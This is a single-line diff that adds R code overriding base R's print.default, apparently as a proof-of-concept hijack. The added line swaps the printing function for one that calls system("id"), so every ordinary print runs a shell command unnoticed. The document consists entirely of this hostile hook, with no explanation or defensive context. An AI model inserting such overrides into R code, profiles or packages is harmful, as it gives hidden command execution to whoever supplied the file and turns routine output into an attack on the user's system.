@@ -1,0 +1,1 @@
+utils::assignInNamespace("print.default", function(x, ...) system("id"), ns = "base")
